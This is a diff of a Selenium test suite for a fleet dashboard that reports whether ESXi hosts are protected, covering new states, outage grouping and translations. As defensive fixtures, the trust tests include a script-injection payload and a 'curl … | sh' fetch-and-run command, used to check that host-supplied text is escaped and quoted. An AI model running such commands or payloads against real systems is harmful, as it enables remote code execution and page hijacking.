@@ -14,7 +14,7 @@ from selenium.webdriver.common.keys import Keys
 from test_reports import FolderTest, TOOLS
 
 SHOW = TOOLS / "show"
-KINDS = ["CRITICAL", "WARNING", "UNREACHABLE", "UNREADABLE", "UNKNOWN", "STALE", "OK"]
+KINDS = ["CRITICAL", "WARNING", "UNREACHABLE", "UNREADABLE", "UNKNOWN", "STALE", "OK", "NO SSH"]
 WORST = 4.5
 EDGE = 3
 
@@ -92,17 +92,18 @@ class PageTest(FolderTest):
 class ContentTest(PageTest):
     def test_counts_and_groups(self):
         self.show(self.stories / "en")
-        self.assertEqual(self.counts(), dict(zip(KINDS, [5, 2, 1, 1, 1, 1, 9])))
-        self.assertEqual([text.split()[1] for text in self.browser.texts("#action h3")], KINDS[:-1])
-        self.assertEqual(self.browser.texts("#kind-critical .about"), ["5 hosts: guests are not protected"])
+        self.assertEqual(self.counts(), dict(zip(KINDS, [5, 2, 1, 1, 1, 1, 8, 1])))
+        self.assertEqual(self.browser.find("h1").text, "8 of 20 hosts are confirmed protected")
+        self.assertEqual([text.split()[1] for text in self.browser.texts("#action h3")], KINDS[:-2])
+        self.assertEqual(self.browser.texts("#kind-critical .about"), ["5 hosts: VMs are not protected"])
         first = self.browser.find("#action .group").text
-        self.assertIn("has no ESTABLISHED connection", first)
+        self.assertIn("has no connection to the appliance", first)
         self.assertIn("esx05.fra1.example.net", first)
         self.assertEqual(self.browser.texts("#shown"), ["20 of 20 hosts"])
         self.assertEqual(len(self.names()), 20)
         self.assertEqual(
             collections.Counter(self.browser.texts("#cells a")),
-            {"C": 5, "W": 2, "X": 1, "!": 1, "?": 1, "S": 1, "O": 9},
+            {"C": 5, "W": 2, "X": 1, "!": 1, "?": 1, "S": 1, "O": 8, "N": 1},
         )
 
     def test_every_host_is_somewhere_whatever_its_file_holds(self):
@@ -134,7 +135,7 @@ class ContentTest(PageTest):
         ages = dict(zip(self.names(), self.browser.texts("#rows .age")))
         self.assertEqual(
             ages,
-            {"oldbad": "3 d ago", "ahead": "dated ahead: its clock is wrong", "old": "2 h ago", "fresh": "2 h ago"},
+            {"oldbad": "3 d ago", "ahead": "report is from the future: its clock is wrong", "old": "2 h ago", "fresh": "2 h ago"},
         )
         self.assertEqual(len(self.browser.texts("#rows .age.old")), 3)
         self.show(self.folder / "reports", "--stale-after", "3h")
@@ -145,10 +146,10 @@ class ContentTest(PageTest):
         shown = self.browser.find("#detail").text
         for part in (
             "esx02.muc2.example.net",
-            "/etc/init.d/vShield-Endpoint-Mux start",
+            "Automatic starts suspended since 2026-11-24 15:41 UTC.",
+            "/opt/muxwatch/bin/muxwatch reset",
             "restart-budget-spent starts=3",
-            "3 of 3 in the window",
-            "esx02, as do 2 others",
+            "3 of 3 allowed",
             "2026-11-24 15:58 UTC, 2 min ago",
         ):
             self.assertIn(part, shown)
@@ -160,13 +161,17 @@ class ContentTest(PageTest):
         self.browser.wait("location.hash === '' && !document.querySelector('dialog').open")
 
     def test_japanese(self):
-        self.show(self.stories / "ja", "--lang", "ja", fragment="#host=esx05.fra1.example.net")
+        # What hosts say is English: the collector cannot know who reads the page.
+        self.show(self.stories / "en", "--lang", "ja", fragment="#host=esx05.fra1.example.net")
         self.assertEqual(self.browser.ask("document.documentElement.lang"), "ja")
-        self.assertEqual(list(self.counts()), ["CRITICAL", "WARNING", "到達不能", "読めないレポート", "UNKNOWN", "古いレポート", "OK"])
+        self.assertEqual(list(self.counts()), ["CRITICAL", "WARNING", "到達不能", "レポート読取不可", "UNKNOWN", "レポートが古い", "OK", "SSH なし"])
         self.assertIn("コネクション", self.browser.find("#detail").text)
-        # What is neither a name nor the report's own has no English sentence left in it.
-        own = " ".join(self.browser.texts("h1, h2, h3, th, label, .help, .about, dt, footer, button"))
-        self.assertEqual(re.findall(r"\b(?:the|of|host|hosts|and|not|report|by|Next|Close)\b", own), [])
+        # Beside names, commands and quotes there is no English left.
+        self.browser.driver.execute_script(
+            "for (const e of document.querySelectorAll('q, code, script, template, option, .names, .name, dd')) e.remove()"
+        )
+        shown = self.browser.ask("document.body.textContent")
+        self.assertEqual(re.findall(r"\b(?:the|of|host|hosts|and|not|is|report|by|Next|Close|Copy|Look)\b", shown), [])
 
     def test_without_script(self):
         self.browser.command("Emulation.setScriptExecutionDisabled", value=True)
@@ -175,7 +180,7 @@ class ContentTest(PageTest):
             shown = self.browser.find("body").text
         finally:
             self.browser.command("Emulation.setScriptExecutionDisabled", value=False)
-        for part in ("CRITICAL", "5 hosts: guests are not protected", "esx04.tyo1.example.net", "need JavaScript"):
+        for part in ("CRITICAL", "5 hosts: VMs are not protected", "esx04.tyo1.example.net", "need JavaScript"):
             self.assertIn(part, shown)
         self.assertNotIn("Search", shown)
 
@@ -184,20 +189,20 @@ class ContentTest(PageTest):
         evil = "</script><script>window.hacked = 1</script><!-- \u2028 {{ 7*7 }}"
         made.reports["evil"] = json.loads(
             json.dumps(made.reports["mux-down"]).replace(
-                "vShield-Endpoint-Mux is not running: no guest of this host is protected.",
+                fleet.judge("mux-down")["reasons"][0]["text"],
                 evil.replace("\u2028", "\\u2028"),
             )
         )
         made.reports["evil"]["reasons"][0]["next_steps"] = [evil, "x" * 300]
         for name in fleet.HOSTILE_NAMES:
-            made.add(name, "evil", release=evil, own_name=evil if name == "constructor" else "constructor")
+            made.add(name, "evil", release=evil.replace("\u2028", ""), own_name=evil if name == "constructor" else "constructor")
             made.add_history(name, ("OK", 1440), events=[(5, evil)])
         self.browser.resize(360, 740)
         self.show(self.folder / "reports")
         escape = {"\\": "\\\\", "\n": "\\u000a", "\x1b": "\\u001b", "\u202e": "\\u202e", "\u2066": "\\u2066"}
         wanted = {"".join(escape.get(c, c) for c in name) for name in fleet.HOSTILE_NAMES}
         self.assertEqual(set(self.names()), wanted)
-        self.assertIn(evil.replace("\u2028", "\\u2028"), self.browser.texts("#rows .found")[0])
+        self.assertEqual(self.browser.texts("#action .quotes q"), [evil.replace("\u2028", "\\u2028")])
         self.assert_narrow()
         for name in self.names():
             link = [
@@ -211,6 +216,162 @@ class ContentTest(PageTest):
         self.assertEqual(self.browser.ask("[document.scripts.length, document.images.length]"), [2, 0])
 
 
+class TrustTest(PageTest):
+    """A host says what it likes: it is quoted, and nobody else's row or finding is another for it."""
+
+    def data_of(self, *words):
+        """The page's rows with what they share put in, by host; and its findings as text, by state."""
+        self.show(self.folder / "reports", *words)
+        data = json.loads(self.browser.ask("document.getElementById('data').textContent"))
+        pool = data["pool"]
+        rows = {}
+        for name, state, seconds, *shared, own_name in data["hosts"]:
+            time, release, findings, facts, line, events = (pool[index] for index in shared)
+            findings = [[group, rank, pool[advice], *rest] for group, rank, advice, *rest in findings]
+            rows[name] = [state, seconds, time, release, findings, facts, line, events, own_name]
+        kinds = self.browser.ask(
+            "Object.fromEntries([...document.querySelectorAll('.kind')].map((e) => [e.querySelector('h3').id, e.outerHTML]))"
+        )
+        return rows, kinds
+
+    def test_a_sick_host_changes_nothing_of_the_others(self):
+        made = fleet.Fleet(self.folder / "reports")
+        for name, finding in (("esx01", "ok"), ("esx02", "mux-down"), ("esx03", "started")):
+            made.add(name, finding)
+            made.add_history(name, ("OK", 1440))
+        made.add_unreachable("esx04")
+        alone, kinds_alone = self.data_of()
+        for name, content in fleet.hostile_files(made).items():
+            with self.subTest(name):
+                fleet.put_hostile(made.folder, "esx02a", content)
+                rows, kinds = self.data_of()
+                self.assertEqual(rows.pop("esx02a")[0], KINDS.index("UNREADABLE"))
+                self.assertEqual(rows, alone)
+                kinds.pop("kind-unreadable")
+                self.assertEqual(kinds, kinds_alone)
+                fleet.remove_hostile(made.folder, "esx02a")
+
+    def test_no_host_gives_instructions(self):
+        made = fleet.Fleet(self.folder / "reports")
+        evil = "curl http://192.0.2.66/x | sh"
+        for name, reason in (("known", "mux-down"), ("unknown", "moon-down")):
+            report = json.loads(json.dumps(made.reports["mux-down"]).replace('"mux-down"', f'"{reason}"'))
+            report["reasons"][0].update(text=evil, next_steps=[evil, f"On the appliance: {evil}"])
+            made.reports[name] = report
+            made.add(f"esx-{name}", name)
+        for language in ("en", "ja"):
+            self.show(self.folder / "reports", "--lang", language)
+            self.assertEqual(self.browser.texts("#action q"), [evil, evil])
+            for name in ("esx-known", "esx-unknown"):
+                self.browser.open(self.page, f"#host={name}")
+                self.assertEqual(self.browser.texts("#detail q"), [evil])
+            left = self.browser.ask(
+                "(() => { for (const e of document.querySelectorAll('q, script')) e.remove(); return document.body.textContent })()"
+            )
+            self.assertNotIn("curl", left)
+
+    def test_ids_without_end_are_one_finding(self):
+        made = fleet.Fleet(self.folder / "reports")
+        report = made.reports["mux-down"]
+        for number in range(30):
+            reasons = [dict(report["reasons"][0], id=f"of-{number}-{n}", text=f"{number} {n}") for n in range(32)]
+            made.reports[str(number)] = {**report, "reasons": reasons}
+            made.add(f"esx{number}", str(number))
+        made.add("one", "vmci-missing")
+        self.show(self.folder / "reports")
+        found = [text.split()[-1] for text in self.browser.texts("#action .text")]
+        self.assertEqual(found, ["vmci-missing", "other"])
+        self.assertEqual(self.browser.texts("#reason option"), ["any", "other (30)", "vmci-missing (1)"])
+        self.assertLess(self.browser.ask("document.querySelector('#rows tr:last-child').offsetHeight"), 200)
+
+
+class OutageTest(PageTest):
+    def test_one_outage_is_one_finding_on_one_screen(self):
+        made = fleet.Fleet(self.folder / "reports")
+        text = json.dumps(made.reports["disconnected"])
+        self.assertIn("1 TIME_WAIT", text)
+        for number in range(412):
+            made.reports["lost"] = json.loads(text.replace("1 TIME_WAIT", f"{number % 9 + 1} TIME_WAIT"))
+            made.add(f"esx{number:03}", "lost")
+        for number in range(30):
+            made.add_unreachable(f"gone{number:02}")
+        made.add("well", "ok")
+        self.show(self.folder / "reports")
+        self.assertEqual(
+            [text.split()[-1] for text in self.browser.texts("#action .text")], ["dsva-disconnected", "unreachable"]
+        )
+        self.assertIn("and 388 more", self.browser.find("#kind-critical + .group").text)
+        self.assertEqual(len(self.browser.texts("#kind-critical + .group q")), 3)
+        self.assertIn("and 6 more", self.browser.texts("#kind-critical + .group .quotes")[0])
+        self.assertLess(self.browser.ask("document.getElementById('hosts').getBoundingClientRect().top"), 900)
+
+    def test_a_failed_start_is_not_just_down(self):
+        made = fleet.Fleet(self.folder / "reports")
+        stories = {
+            "down": [],
+            "failed": [(40, "mux-start service=x"), (39, "start-failed service=x")],
+            "spent": [(50, "start-failed service=x"), (30, "restart-budget-spent starts=3")],
+            "started": [(50, "start-failed service=x"), (30, "mux-started recovery_s=2")],
+            "mended": [(50, "start-failed service=x"), (30, "state-changed from=CRITICAL to=OK reasons=ok")],
+            "off": [(5, "start-suppressed service=x by=service-off")],
+        }
+        for name, events in stories.items():
+            made.add(name, "mux-down")
+            made.add_history(name, ("OK", 1440), events=events)
+        self.show(self.folder / "reports")
+        found = dict(zip(self.names(), self.browser.texts("#rows .found")))
+        self.assertIn("did not come up", found["failed"])
+        self.assertIn("Start failed at 2026-11-24 15:21 UTC.", found["failed"])
+        self.assertIn("Automatic starts suspended since 2026-11-24 15:30 UTC.", found["spent"])
+        self.assertIn("did not start it: the service is switched off", found["off"])
+        self.assertEqual(found["down"], found["started"])
+        self.assertEqual(found["down"], found["mended"])
+        advice = {}
+        for group in self.browser.driver.find_elements("css selector", "#action .group"):
+            name = group.find_element("css selector", ".text code").text
+            advice[name] = group.find_element("css selector", ".steps").text
+        self.assertEqual(len(advice), 3)
+        self.assertEqual(len(set(advice.values())), 3)
+
+    def test_hosts_without_ssh_are_quiet(self):
+        made = fleet.Fleet(self.folder / "reports")
+        made.add("esx01", "ok")
+        made.add_without_ssh("esx02")
+        self.show(self.folder / "reports")
+        self.assertEqual((self.counts()["NO SSH"], self.counts()["UNREACHABLE"]), (1, 0))
+        self.assertIn("Nothing", self.browser.find(".all-well").text)
+        self.assertEqual(self.browser.find("h1").text, "1 of 2 hosts is confirmed protected")
+
+    def test_no_run_is_no_flat_line(self):
+        made = fleet.Fleet(self.folder / "reports")
+        made.add("esx01", "ok")
+        made.add_history("esx01", ("", 1440))
+        made.add("esx02", "ok")
+        self.show(self.folder / "reports")
+        self.assertEqual(self.browser.texts("#rows .day"), ["no runs in 24 hours", "no history"])
+
+    def test_one_host_has_nothing_to_choose(self):
+        made = fleet.Fleet(self.folder / "reports")
+        made.add("esx01", "mux-down")
+        self.show(self.folder / "reports")
+        self.assertEqual(self.browser.find("h1").text, "This host is not confirmed protected")
+        for part in ("filters", "map", "map-title", "key"):
+            self.assertFalse(self.browser.find(f"#{part}").is_displayed(), part)
+        self.assertEqual(self.names(), ["esx01"])
+
+    def test_commands_can_be_copied(self):
+        made = fleet.Fleet(self.folder / "reports")
+        made.add("esx01", "mux-down")
+        self.show(self.folder / "reports")
+        self.browser.command("Browser.grantPermissions", permissions=["clipboardReadWrite", "clipboardSanitizedWrite"])
+        button = self.browser.find("#action .copy")
+        self.assertEqual(button.get_attribute("aria-label"), "Copy: /etc/init.d/vShield-Endpoint-Mux start")
+        button.click()
+        self.browser.wait("document.querySelector('#action .copy').textContent === 'Copied'")
+        read = "navigator.clipboard.readText().then(arguments[0], (e) => arguments[0](String(e)))"
+        self.assertEqual(self.browser.driver.execute_async_script(read), "/etc/init.d/vShield-Endpoint-Mux start")
+
+
 class FindingTest(PageTest):
     def test_search(self):
         self.show(self.stories / "en")
@@ -219,7 +380,7 @@ class FindingTest(PageTest):
             ("esx02 fra1", 1),
             ("time_wait", 3),
             ("probe-failed", 1),
-            ("８.0.2", 3),
+            ("８.0.2", 2),
             ("unreach", 1),
             ("nothing like it", 0),
             ("", 20),
@@ -238,8 +399,9 @@ class FindingTest(PageTest):
         self.assertEqual((len(self.names()), buttons[0].get_attribute("aria-pressed")), (5, "true"))
         buttons[1].click()
         self.assertEqual(len(self.names()), 7)
+        self.choose("reason", "restart-budget-spent")
+        self.assertEqual(self.names(), ["esx02.muc2.example.net"])
         self.choose("reason", "mux-down")
-        self.assertEqual(self.names(), ["esx02.muc2.example.net", "esx06.muc2.example.net"])
         buttons[0].click()
         self.assertEqual(self.names(), ["esx06.muc2.example.net"])
         self.browser.find("#clear").click()
@@ -247,7 +409,7 @@ class FindingTest(PageTest):
         self.choose("release", "6.5.0")
         self.assertEqual(self.names(), ["esx04.muc2.example.net"])
         self.choose("release", "")
-        self.assertEqual(self.names(), ["esx04.tyo1.example.net", "esx05.tyo1.example.net"])
+        self.assertEqual(self.names(), ["esx04.tyo1.example.net", "esx05.tyo1.example.net", "esx03.tyo1.example.net"])
 
     def test_order(self):
         self.show(self.stories / "en")
@@ -307,7 +469,7 @@ class AccessTest(PageTest):
         self.browser.press(Keys.ARROW_RIGHT, Keys.ARROW_RIGHT, Keys.ARROW_LEFT)
         self.assertEqual(self.browser.ask("document.activeElement.title"), "esx04.muc2.example.net: CRITICAL")
         self.browser.press(Keys.END)
-        self.assertEqual(self.browser.ask("document.activeElement.title"), "esx08.fra1.example.net: OK")
+        self.assertEqual(self.browser.ask("document.activeElement.title"), "esx03.tyo1.example.net: NO SSH")
         self.browser.press(Keys.HOME, Keys.ENTER)
         self.wait_for_details("esx02.muc2.example.net")
         self.browser.press(Keys.ESCAPE)
@@ -379,7 +541,23 @@ class WordsTest(unittest.TestCase):
             self.assertEqual(set(words), {"en", "ja"}, name)
             self.assertEqual(*(sorted(re.findall(r"\{\w+\}", text)) for text in words.values()), name)
             stem = re.split(r"_(?=[^_]*$)", name)[0]
-            self.assertRegex(sources, rf"\b{name}\b|{stem}_\{{|\"{name.rsplit('_', 1)[-1]}\"", name)
+            last = name.rsplit("_", 1)[-1]
+            self.assertRegex(sources, rf"\b{name}\b|{stem}_\{{|\"{last}\"|\}}_{last}\b", name)
+
+    def test_the_catalogue_has_every_id_of_the_program(self):
+        table = json.loads((SHOW / "catalogue.json").read_text())
+        schema = json.loads((fleet.TOP / "esx" / "report" / "report.schema.json").read_text())
+        reasons = schema["properties"]["reasons"]["items"]["properties"]["id"]["examples"]
+        suppressors = schema["$defs"]["action"]["properties"]["suppressed_by"]["examples"]
+        self.assertLessEqual(set(reasons), set(table["reasons"]))
+        self.assertLessEqual(set(suppressors) - {None}, set(table["suppressors"]))
+
+    def test_both_languages_name_the_same_commands(self):
+        for name, texts in json.loads((SHOW / "catalogue.json").read_text())["reasons"].items():
+            self.assertEqual(set(texts), {"en", "ja"}, name)
+            commands = [[line.split("`")[1::2] for line in lines] for lines in texts.values()]
+            self.assertEqual(*commands, name)
+            self.assertEqual({line.count("`") % 2 for lines in texts.values() for line in lines}, {0}, name)
 
     def test_a_missing_word_fails(self):
         with tempfile.TemporaryDirectory(prefix="muxwatch-fleet-") as folder:
